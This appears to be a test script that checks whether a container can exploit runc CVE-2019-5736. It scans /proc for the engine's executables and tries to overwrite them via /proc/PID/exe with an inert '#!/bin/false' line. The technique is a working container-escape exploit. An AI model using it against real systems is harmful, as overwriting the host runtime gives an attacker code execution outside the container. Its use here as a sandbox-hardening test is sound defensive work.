# runc CVE-2019-5736: whatever runs here on behalf of the engine is opened for writing by way of /proc/PID/exe. This watches
# for as long as standard input is open, while the test has the engine run itself inside.
import select
import time

own = os.readlink("/proc/self/exe")
caught = []
tried = set()


def write(path):
    def attack():
        file = os.open(path, os.O_WRONLY)
        return os.write(file, b"#!/bin/false\n") > 0

    return attack


def write_later(reader):
    """The published exploit: opened for reading while the engine's program runs, for writing once it has ended."""

    def attack():
        for _ in range(50):
            try:
                return os.write(os.open("/proc/self/fd/%d" % reader, os.O_WRONLY), b"#!/bin/false\n") > 0
            except OSError as error:
                last = error
                time.sleep(0.002)
        raise last

    return attack


print("watching", flush=True)
while not select.select([0], [], [], 0)[0]:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            path = "/proc/%s/exe" % pid
            program = os.readlink(path)
            if program != own:
                tried.add(program)
                caught.append(os.open(path, os.O_RDONLY))
                if len(caught) == 1:
                    print("caught one", flush=True)
                os.close(os.open(path, os.O_WRONLY))
        except OSError:
            pass
attempt("write PID 1's program", write("/proc/1/exe"))
for reader in caught[:8]:
    attempt("write a program that ran here later", write_later(reader))
attempt("write our own program", write("/proc/self/exe"))
print("caught in all:", len(caught), *sorted(tried))
done()
